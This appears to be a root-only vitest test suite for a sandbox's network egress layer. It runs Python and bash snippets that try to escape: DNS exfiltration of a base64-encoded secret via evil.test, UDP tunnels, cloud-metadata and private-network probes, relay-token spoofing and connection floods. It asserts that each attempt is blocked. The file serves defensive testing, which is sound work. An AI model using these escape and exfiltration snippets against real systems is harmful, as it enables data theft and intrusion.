import { execFile } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync } from "node:fs";
import { connect } from "node:net";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { DEFAULT_LIMITS } from "@plastron/contracts";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { SandboxDriver } from "../../driver.ts";
import { type Bench, bench } from "../../testing/harness.ts";
import { NAMES, type Outside, outside, wayOut } from "../../testing/outside.ts";
import { begun } from "../../testing/waiting.ts";
import { openLocalDriver } from "./index.ts";

/**
 * Ways round the way out, tried from real sandboxes. What requests and names can be made to say is attacked beside the code
 * that reads them (packages/egress); here it is what a program can do with its sockets, and what happens when parts of us die.
 */
const isRoot = process.getuid?.() === 0;
const home = mkdtempSync(join(tmpdir(), "plastron-egress-attacks-"));
afterAll(() => rmSync(home, { recursive: true, force: true }));

const limits = { ...DEFAULT_LIMITS, wall_ms: 30_000 };
const [API] = NAMES as [string];
/** An address of this host that is not loopback: a sandbox without walls would reach it. */
const own = Object.values(networkInterfaces())
  .flatMap((list) => list ?? [])
  .find(({ family, internal }) => family === "IPv4" && !internal)?.address;

/** Without a sandbox. Not synchronous: the servers that it talks to live in this process. */
const bare = (code: string) =>
  new Promise<string>((resolve) => execFile("/usr/bin/python3", ["-c", code], { cwd: "/", timeout: 20_000 }, (_, stdout) => resolve(stdout)));

/** Prints what became of it. */
const TRY = `
import socket, sys
def attempt(name, what):
    try: print(name, what())
    except OSError as e: print(name, type(e).__name__)
`;
const udp = (family: string, host: string, port: number) => `
def send():
    s = socket.socket(socket.${family}, socket.SOCK_DGRAM); s.settimeout(1.5); s.connect(('${host}', ${port})); s.send(b'tunnel'); s.send(b'tunnel')
    return s.recv(100)
attempt('udp', send)`;
const tcp = (family: string, host: string, port: number) => `
def open_():
    s = socket.socket(socket.${family}); s.settimeout(4); s.connect(('${host}', ${port})); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
    said = s.recv(300)
    return 'denied' if said.startswith(b'HTTP/1.1 403') and b'Plastron' in said else 'reached' if said else 'closed'
attempt('${host}', open_)`;

/** Relays live in a root of their own. */
function relays(directory: string): number[] {
  const isRelay = (pid: string) => {
    try {
      return readlinkSync(`/proc/${pid}/root`) === directory;
    } catch {
      return false;
    }
  };
  return readdirSync("/proc")
    .filter((pid) => /^\d+$/.test(pid) && isRelay(pid))
    .map(Number);
}

/** The egress process of a driver: it lives in the directory that relays connect to. */
function egressProcess(directory: string): number {
  const found = readdirSync("/proc").find((pid) => {
    try {
      return /^\d+$/.test(pid) && readlinkSync(`/proc/${pid}/cwd`) === directory && readlinkSync(`/proc/${pid}/root`) === "/";
    } catch {
      return false;
    }
  });
  return Number(found);
}

const residentMb = (pid: number) => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1]) / 1024;

describe.runIf(isRoot)("[needs: root] the way out cannot be got round", () => {
  let world: Outside;
  let driver: SandboxDriver;
  let use: Bench;
  const directory = join(home, "egress");
  beforeAll(async () => {
    world = await outside();
    driver = await openLocalDriver({ home, egress: world.egress });
    use = bench(driver, wayOut({ http: [{ hosts: [API] }] }));
  });
  afterAll(async () => {
    await driver.close();
    await world.close();
    expect(relays(directory)).toEqual([]);
  });

  it("without a record of it, however many made-up names are asked for before", async () => {
    const flood = `
import socket
for i in range(300):
    try: socket.getaddrinfo(f'n{i}.evil.test', 80)
    except OSError: pass
s = socket.create_connection(('${API}', ${world.http})); s.sendall(b'CONNECT other.test:443 HTTP/1.1\\r\\nHost: other.test:443\\r\\n\\r\\n'); s.recv(99)
try: socket.create_connection(('10.1.2.3', 80), 3).recv(99)
except OSError: pass`;
    const ran = await use.python(flood, { limits });
    const told = ran.violations.map(({ event }) => ("host" in event ? `${event.method} ${event.host}:${event.port}` : "ip" in event ? event.ip : ""));
    expect(told.slice(0, 6)).toEqual([...Array.from({ length: 5 }, (_, i) => ` n${i}.evil.test:53`), " *.evil.test:53"]);
    expect(told.slice(6)).toEqual([`CONNECT ${API}:${world.http}`, "10.1.2.3"]);
    expect(ran.violations_dropped).toBe(294);
  }, 60_000);

  it("by datagrams: QUIC, a tunnel on another port, or one on 53 to a server of one's own", async () => {
    const server = createSocket("udp4").on("message", (text, { port, address }) => server.send(`got ${text}`, port, address));
    server.bind(0, "0.0.0.0");
    await once(server, "listening");
    const { port } = server.address();
    const host = own ?? "127.0.0.1";
    expect(await bare(TRY + udp("AF_INET", host, port))).toContain("got tunnel");
    const ran = await use.python(
      [TRY, udp("AF_INET", host, port), udp("AF_INET", "8.8.8.8", 443), udp("AF_INET6", "2001:4860::8888", 443), udp("AF_INET", "8.8.8.8", 53)].join("\n"),
      { limits },
    );
    expect(ran.stdout.trim().split("\n")).toEqual([
      "udp ConnectionRefusedError",
      "udp ConnectionRefusedError",
      "udp ConnectionRefusedError",
      "udp TimeoutError",
    ]);
    server.close();
  });

  it("by a question whose name is the message: nobody outside is asked", async () => {
    const question = `
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
for server in ('8.8.8.8', '203.0.113.7'):
    s.sendto(struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in b'c2VjcmV0.evil.test'.split(b'.')) + struct.pack('>BHH', 0, 16, 1), (server, 53))
    answer, sender = s.recvfrom(600)
    print(sender[0], answer[3] & 15)`;
    const ran = await use.python(question, { limits });
    expect(ran).toMatchObject({ stdout: "8.8.8.8 3\n203.0.113.7 3\n", stderr: "" });
    expect(ran.violations).toMatchObject([{ action: "DENIED", event: { host: "c2vjcmv0.evil.test" } }]);
  });

  it.runIf(own !== undefined)("[needs: an address beside loopback] by an address instead of a name, however it is spelled", async () => {
    const wide = await outside();
    const proxyless = TRY + tcp("AF_INET", own as string, wide.wide) + tcp("AF_INET6", `::ffff:${own}`, wide.wide);
    expect(await bare(proxyless)).toBe(`${own} reached\n::ffff:${own} reached\n`);
    const attack = (rules: Parameters<typeof wayOut>[0]) => bench(driver, wayOut(rules)).python(proxyless, { limits });
    const refused = `${own} denied\n::ffff:${own} denied\n`;
    expect((await attack({ http: [{ hosts: [API] }] })).stdout).toBe(refused);
    const open = await attack({ default_action: "allow" });
    expect(open.stdout).toBe(refused);
    expect(open.violations.map(({ rule_id, event }) => [rule_id, event])).toEqual(
      Array(2).fill(["egress/forbidden-address", { operation: "Network", type: "connect", ip: own, port: wide.wide }]),
    );
    expect((await attack({ addresses: [{ cidr: `${own}/32` }] })).stdout).toBe(`${own} reached\n::ffff:${own} reached\n`);
    await wide.close();
  });

  it("to a metadata service or a private network, even where everything is allowed", async () => {
    const places = [
      "169.254.169.254",
      "100.100.100.200",
      "100.96.0.96",
      "192.0.0.192",
      "10.0.0.1",
      "192.168.1.1",
      "172.17.0.1",
      "224.0.0.1",
      "255.255.255.254",
    ];
    const mapped = ["::ffff:169.254.169.254", "fd00:ec2::254", "64:ff9b::a9fe:a9fe", "fe80::1", "ff02::1"];
    const code = TRY + places.map((host) => tcp("AF_INET", host, 80)).join("\n") + mapped.map((host) => tcp("AF_INET6", host, 80)).join("\n");
    const ran = await bench(driver, wayOut({ default_action: "allow" })).python(code, { limits });
    expect(ran.stdout).not.toMatch(/reached|closed/);
    const recorded = ran.violations.filter(({ rule_id }) => rule_id === "egress/forbidden-address").map(({ event }) => "ip" in event && event.ip);
    expect(recorded).toEqual(expect.arrayContaining([...places.slice(0, 7), "fd00:ec2::254", "64:ff9b::a9fe:a9fe"]));
    expect(recorded.filter((ip) => ip === "169.254.169.254")).toHaveLength(2);
  });

  it("by answering oneself: no server of the program's stands where its connections end", async () => {
    const code = `${TRY}
server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); server.bind(('0.0.0.0', 8080)); server.listen()
for port in (1, 53):
    attempt(port, lambda: socket.socket().bind(('0.0.0.0', port)))
    attempt(port, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(('0.0.0.0', port)))
attempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt('relay', lambda: socket.create_connection(('127.0.0.1', 1), 2).recv(1))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
${tcp("AF_INET", "203.0.113.9", 8080)}`;
    const said = (await use.python(code, { limits })).stdout;
    expect(said.match(/PermissionError/g)?.length).toBeGreaterThanOrEqual(6);
    expect(said).toContain("relay ConnectionResetError");
    expect(said).toContain("203.0.113.9 denied");
  });

  it("by taking over the relay or the egress process: neither has a right, and the relay has nothing but sockets", async () => {
    const { ended, letGo } = await begun(use, { limits });
    const field = (pid: number, name: string) => new RegExp(`^${name}:\\s+(\\S+)`, "m").exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1];
    const all = relays(directory);
    expect(all.length).toBeGreaterThan(0);
    for (const pid of [egressProcess(directory), ...all]) {
      expect(Number(field(pid, "Uid"))).toBeGreaterThan(1_000_000_000);
      expect(["CapInh", "CapPrm", "CapEff", "CapAmb"].map((name) => field(pid, name))).toEqual(Array(4).fill("0000000000000000"));
      expect(field(pid, "NoNewPrivs")).toBe("1");
    }
    expect(field(egressProcess(directory), "CapBnd")).toBe("00000000000000c4"); // setuid, setgid and dac_read_search, which it has given up
    const [, soft, hard] = /^Max open files\s+(\S+)\s+(\S+)/m.exec(readFileSync(`/proc/${egressProcess(directory)}/limits`, "utf8")) ?? [];
    expect(soft).toBe(hard);
    expect(readFileSync(`/proc/${egressProcess(directory)}/limits`, "utf8")).toMatch(/^Max core file size +1 +1 /m); // secrets are in its memory
    for (const pid of all) {
      expect(["Seccomp", "CapBnd"].map((name) => field(pid, name))).toEqual(["2", "0000000000000000"]);
      expect(readdirSync(`/proc/${pid}/fd`).length).toBeLessThan(12);
    }
    expect(new Set(all.map((pid) => field(pid, "Uid"))).size).toBe(all.length);
    letGo();
    await ended;
  });

  it("by speaking for another sandbox: a token cannot be guessed, nor be seen from inside", async () => {
    const { ended, letGo } = await begun(use, { limits });
    const socket = connect(join(directory, "relay.sock"));
    socket.write(Buffer.concat([Buffer.from([1, 6, 80, 0]), Buffer.alloc(16), Buffer.from("f".repeat(64)), Buffer.from("GET / HTTP/1.0\r\n\r\n")]));
    const heard: Buffer[] = [];
    socket.on("data", (chunk) => heard.push(chunk)).on("error", () => {});
    await once(socket, "close");
    expect(heard).toEqual([]);
    const inside = await use.bash(
      "ls /proc | grep -c '^[0-9]'; grep -l plastron-launche[r] /proc/[0-9]*/cmdline 2>/dev/null; cat /proc/net/unix | grep -c relay",
      {
        limits,
      },
    );
    expect(inside.stdout).not.toContain("cmdline");
    expect(inside.stdout.trim().split("\n").at(-1)).toBe("0");
    letGo();
    await ended;
  });

  const download = `
import urllib.request
answer, n = urllib.request.urlopen('http://${API}:PORT/big'), 0
print(answer.status, flush=True)
try:
    while chunk := answer.read(1 << 20): n += len(chunk)
except Exception as e: print(type(e).__name__)
print(n == 1 << 30)`;

  it("takes a gigabyte in the memory of a few buffers", async () => {
    await use.bash(`curl -s http://${API}:${world.http}/`, { limits });
    const pid = egressProcess(directory);
    const before = residentMb(pid);
    let most = before;
    const timer = setInterval(() => (most = Math.max(most, residentMb(pid))), 50);
    const ran = await use.python(download.replace("PORT", String(world.http)), { limits: { ...limits, wall_ms: 90_000 } });
    clearInterval(timer);
    expect(ran).toMatchObject({ stdout: "200\nTrue\n", stderr: "" });
    expect(most - before).toBeLessThan(150);
  }, 100_000);

  it("leaves the others their way when one holds all of its own", async () => {
    const hold = `
import socket
held = []
for i in range(400):
    s = socket.socket(); s.setblocking(False)
    try: s.connect((ADDRESS, ${world.http}))
    except BlockingIOError: pass
    held.append(s)
print('held', flush=True)
input()`.replace("ADDRESS", `socket.gethostbyname('${API}')`);
    const { ended, letGo } = await begun(use, { code: hold, limits });
    expect((await use.bash(`curl -s -o /dev/null -w '%{http_code}' http://${API}:${world.http}/`, { limits })).stdout).toBe("200");
    letGo();
    expect((await ended).stdout).toBe("held\n");
  });

  it("ends with the relay: the sandbox goes, running or waiting, and the next has a relay of its own", async () => {
    const killed = use.watch({ runtime: "python3", code: `${download.replace("PORT", String(world.http))}\nimport time; time.sleep(9)`, limits }, () => {
      for (const pid of relays(directory)) process.kill(pid, "SIGKILL");
    });
    expect(await killed).toMatchObject({ status: "killed", reason: "the relay of its way out has died", stdout: expect.not.stringContaining("True") });
    // A sandbox whose relay was killed while it waited may be lent once more before that is seen: its run ends as the first did.
    const next = async () => (await use.bash(`curl -s -o /dev/null -w '%{http_code}' http://${API}:${world.http}/`, { limits })).stdout;
    await expect.poll(next, { timeout: 10_000 }).toBe("200");
  });

  it("is cut when the egress process dies, and works again in the same sandbox when the next is there", async () => {
    const again = `
import time
for i in range(60):
    try:
        print(urllib.request.urlopen('http://${API}:${world.http}/again').status); break
    except OSError: time.sleep(0.1)`;
    const pid = egressProcess(directory);
    const ran = use.watch({ runtime: "python3", code: download.replace("PORT", String(world.http)) + again, limits }, (text) => {
      if (text.startsWith("200") && egressProcess(directory) === pid) process.kill(pid, "SIGKILL");
    });
    expect((await ran).stdout).toBe("200\nConnectionResetError\nFalse\n200\n");
    expect(egressProcess(directory)).not.toBe(pid);
  });
});
